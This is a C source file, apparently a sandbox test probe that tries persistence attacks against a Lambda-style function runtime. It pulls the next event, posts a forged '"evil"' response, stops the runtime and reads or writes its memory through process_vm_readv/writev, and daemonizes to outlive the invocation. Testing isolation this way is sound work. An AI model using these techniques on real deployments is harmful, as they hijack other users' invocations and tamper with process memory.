/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks on a function's environment that outlive the invocation: persist NAME [twin | SECONDS].  Prints DONE where the forbidden thing
 * happened.  What an attacker does here takes its time, as it would to wait for the next invocation.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned wait_us = 500000;

/* The process that speaks to the Runtime API: the parent, or behind a shell, its parent. */
static int runtime(void)
{
	return getppid();
}

/* --- the Runtime API by hand --------------------------------------------------------------------------------------------------- */

static int connect_api(void)
{
	const char *api = getenv("AWS_LAMBDA_RUNTIME_API"), *colon = api ? strchr(api, ':') : NULL;
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((uint16_t)(colon ? atoi(colon + 1) : 0)), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	return connect(fd, (struct sockaddr *)&to, sizeof to) < 0 ? -1 : fd;
}

static bool ask(const char *request, char *answer, size_t cap)
{
	int fd = connect_api();
	ssize_t n;

	if (fd < 0 || write(fd, request, strlen(request)) < 0)
		return false;
	n = read(fd, answer, cap - 1);
	answer[n > 0 ? n : 0] = '\0';
	close(fd);
	return n > 0;
}

/* --- attacks ------------------------------------------------------------------------------------------------------------------- */

/* A child asks for the next event itself. */
static bool next_event(void)
{
	char answer[4096];

	usleep(wait_us);
	return ask("GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n", answer, sizeof answer) && strstr(answer, "200 OK");
}

/* A child answers the invocation that is under way in the runtime's place. */
static bool post_response(void)
{
	char answer[4096];

	usleep(wait_us);
	return ask("POST /2018-06-01/runtime/invocation/id-1/response HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n\r\n\"evil\"", answer, sizeof answer) &&
	       strstr(answer, "202");
}

/* Stops the runtime, searches its memory for the request's id, lets it go on. */
static bool runtime_swap(void)
{
	char path[64], line[512], *bytes = malloc(1 << 20);
	bool found = false;

	usleep(wait_us);
	if (kill(runtime(), SIGSTOP) < 0)
		return false;
	snprintf(path, sizeof path, "/proc/%d/maps", runtime());
	FILE *f = fopen(path, "re");
	while (f && !found && fgets(line, sizeof line, f)) {
		unsigned long from, to;

		if (sscanf(line, "%lx-%lx rw", &from, &to) != 2 || !strstr(line, " rw"))
			continue;
		for (; from < to && !found; from += 1 << 20) {
			size_t size = to - from < 1 << 20 ? to - from : 1 << 20;
			struct iovec mine = { bytes, size }, theirs = { (void *)from, size };
			ssize_t n = process_vm_readv(runtime(), &mine, 1, &theirs, 1, 0);

			found = n > 0 && memmem(bytes, (size_t)n, "AWS_LAMBDA_RUNTIME_API", 22);
		}
	}
	kill(runtime(), SIGCONT);
	return found;
}

/* Writes into the runtime's memory, where its environment lies: the same word again. */
static bool rewrite_memory(void)
{
	char path[64], text[65536], *name;
	unsigned long start = 0;
	ssize_t n;
	int fd;

	usleep(wait_us);
	snprintf(path, sizeof path, "/proc/%d/stat", runtime());
	fd = open(path, O_RDONLY);
	n = read(fd, text, 4096);
	text[n > 0 ? n : 0] = '\0';
	close(fd);
	name = strrchr(text, ')');
	for (int field = 2; name && field < 50; field++)	/* env_start is field 50 */
		name = strchr(name + 1, ' ');
	start = name ? strtoul(name, NULL, 10) : 0;
	struct iovec mine = { text, 256 }, theirs = { (void *)start, 256 };
	return start && process_vm_readv(runtime(), &mine, 1, &theirs, 1, 0) == 256 && process_vm_writev(runtime(), &mine, 1, &theirs, 1, 0) == 256;
}

/* Double fork, setsid, no signals: acts later. */
static bool daemonize(void)
{
	int pipes[2];
	char done = 0;

	if (pipe(pipes) < 0)
		return false;
	if (fork() == 0) {
		setsid();
		signal(SIGTERM, SIG_IGN);
		if (fork() == 0) {
			usleep(wait_us);
			(void)!write(pipes[1], "x", 1);
		}
		_exit(0);
	}
	wait(NULL);
	close(pipes[1]);
	return read(pipes[0], &done, 1) == 1 && done == 'x';
}

static const struct { const char *name; bool (*attack)(void); } attacks[] = {
	{ "next", next_event }, { "response", post_response }, { "swap", runtime_swap }, { "rewrite", rewrite_memory }, { "daemon", daemonize },
};

int main(int argc, char **argv)
{
	if (argc > 2 && strcmp(argv[2], "twin") == 0) {
		usleep(wait_us);
		puts("worked");
		return 0;
	}
	if (argc > 2)
		wait_us = (unsigned)atoi(argv[2]) * 1000000u;
	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
		if (strcmp(argv[1], attacks[i].name) == 0)
			puts(attacks[i].attack() ? "DONE" : "failed");
	return 0;
}
